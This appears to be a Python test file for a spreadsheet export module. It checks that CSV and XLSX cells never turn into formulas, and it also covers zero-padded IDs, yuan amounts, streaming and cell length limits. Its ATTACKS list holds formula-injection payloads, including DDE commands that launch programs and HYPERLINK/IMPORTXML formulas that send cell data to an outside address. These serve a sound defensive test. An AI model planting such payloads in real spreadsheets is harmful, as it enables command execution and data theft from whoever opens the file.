"""Sheets: no text is ever a formula, and an independent reader finds what was written."""

from __future__ import annotations

import csv
import io
import re
import warnings
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from records.sheets import Column, Form, csv_sheet, xlsx_sheet
from records.sheets.cells import (
    MOST_CHARACTERS,
    marked,
    shortened,
    unmarked,
    without_lost,
    would_be_calculated,
)

ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", "−1",
    " =1", "\u3000=1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\u202e=1", "'=1", '"=1', "“=1", "' =1",
    "=cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc", "%0A=1",
    '=HYPERLINK("http://192.0.2.1/?"&A1;"x")', "=IMPORTXML(CONCAT(\"http://\";A1);\"//a\")",
    "\x00=1", "\x1b=1", "\u0301=1",
]  # fmt: skip
HARMLESS = ["次仁", "SR-20210305-000001", "a=b", "桑珠孜区总工会", "0012", "1-2", "'次仁'", "", " "]
TEXTS = st.text(max_size=30)
DANGEROUS_BEGINNINGS = "=+-@＝＋－＠\t\r\n"
PASSED_OVER = " \u3000\u00a0\ufeff\u200b'\"“\x00"


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    with warnings.catch_warnings(action="error"):
        book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book.active.iter_rows()]


def in_csv(text: str) -> str:
    return read_csv(b"".join(csv_sheet([Column(heading="h")], [[text]])))[1:][0][0]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_be_calculated_is_marked_in_csv_and_read_back_without_its_mark(text):
    assert would_be_calculated(text)
    written = in_csv(text)
    assert written.startswith("'")
    assert unmarked(written) == without_lost(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_as_it_was(text):
    assert marked(text) == unmarked(text) == text


@given(text=TEXTS)
@example(text="'=1")
@example(text="''=1")
def test_a_mark_is_put_on_once_and_taken_off_again(text):
    assert unmarked(marked(text)) == text


@given(
    before=st.text(alphabet=PASSED_OVER, max_size=4),
    begins=st.sampled_from(DANGEROUS_BEGINNINGS),
    after=TEXTS,
)
def test_no_cell_in_csv_begins_a_formula_whatever_stands_before_it(before, begins, after):
    text = f"{before}{begins}{after}"
    row = b"".join(csv_sheet([Column(heading="h")] * 2, [[text, "x"]]))
    (cell, neighbour) = read_csv(row)[1]
    assert cell == f"'{without_lost(text)}"
    assert neighbour == "x"


@given(texts=st.lists(TEXTS, min_size=1, max_size=4))
@example(texts=["=1+1"])
@example(texts=['a","=1'])
def test_in_a_workbook_each_text_is_a_text_for_another_reader(texts):
    content = b"".join(xlsx_sheet("t", [Column(heading="h")] * len(texts), [texts]))
    sheet = ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >/]|hyperlink|<v>", sheet)
    cells = read_xlsx(content)[1] if any(texts) else []
    for text, cell in zip(texts, cells, strict=False):
        assert cell.data_type in ("s", "n" if cell.value is None else "s")
        assert "_x" in text or (cell.value or "") == without_lost(text)
        assert cell.value is None or cell.quotePrefix
        assert cell.hyperlink is None


def test_both_sheets_hold_texts_with_zeros_numbers_and_yuan_as_they_are():
    columns = [
        Column(heading="编号"),
        Column(heading="金额", form=Form.YUAN),
        Column(heading="人数", form=Form.NUMBER),
    ]
    rows = [["0012", 123_450, 3], ["6228480000000000007", -5, None], [None, 0, 0]]
    assert read_csv(b"".join(csv_sheet(columns, rows))) == [
        ["编号", "金额", "人数"],
        ["0012", "1234.50", "3"],
        ["6228480000000000007", "-0.05", ""],
        ["", "0.00", "0"],
    ]
    read = read_xlsx(b"".join(xlsx_sheet("工单", columns, rows)))
    assert [[cell.value for cell in row] for row in read[1:]] == [
        ["0012", 1234.5, 3],
        ["6228480000000000007", -0.05, None],
        [None, 0, 0],
    ]
    assert [cell.number_format for cell in read[1]] == ["@", "0.00", "0"]


def test_csv_is_as_its_standard_has_it_with_a_byte_order_mark():
    columns = [Column(heading="a"), Column(heading="b")]
    content = b"".join(csv_sheet(columns, [['say "x", y', "line\r\nbreak"], [" pad", None]]))
    assert content == (b'\xef\xbb\xbfa,b\r\n"say ""x"", y","line\r\nbreak"\r\n" pad",\r\n')


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_text_is_one_cell_also_where_another_separator_is_taken_besides(separator):
    text = f"欠薪{separator}=1+1"
    content = b"".join(csv_sheet([Column(heading="h")], [[text]])).decode("utf-8-sig")
    reader = csv.reader(io.StringIO(content, newline=""), delimiter=separator)
    assert list(reader)[1] == [text]


def test_a_workbook_streams_and_holds_no_part_that_could_act():
    columns, rows = [Column(heading="h")], ([f"row {n}"] for n in range(2500))
    pieces = list(xlsx_sheet("列/表[1]", columns, rows))
    assert len(pieces) > 20, "rows leave as they come"
    archive = ZipFile(io.BytesIO(b"".join(pieces)))
    assert archive.testzip() is None
    assert sorted(archive.namelist()) == [
        "[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
        "xl/workbook.xml", "xl/worksheets/sheet1.xml",
    ]  # fmt: skip
    read = read_xlsx(b"".join(pieces))
    assert [row[0].value for row in read] == ["h", *(f"row {n}" for n in range(2500))]


def test_a_wide_sheet_names_its_columns_beyond_z():
    columns = [Column(heading=f"c{n}") for n in range(60)]
    read = read_xlsx(b"".join(xlsx_sheet("t", columns, [[f"v{n}" for n in range(60)]])))
    assert [cell.value for cell in read[1]] == [f"v{n}" for n in range(60)]


def test_what_no_cell_can_hold_is_shortened_and_says_so():
    text = "字" * (MOST_CHARACTERS + 1)
    assert len(shortened(text)) == MOST_CHARACTERS
    assert shortened(text).endswith("…")
    (row,) = read_xlsx(b"".join(xlsx_sheet("t", [Column(heading="h")], [[text]])))[1:]
    assert row[0].value == shortened(text)


def test_what_excel_would_decode_is_kept_as_it_was_written():
    content = b"".join(xlsx_sheet("t", [Column(heading="h")], [["_x003D_1+1"]]))
    sheet = ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "_x005F_x003D_1+1" in sheet
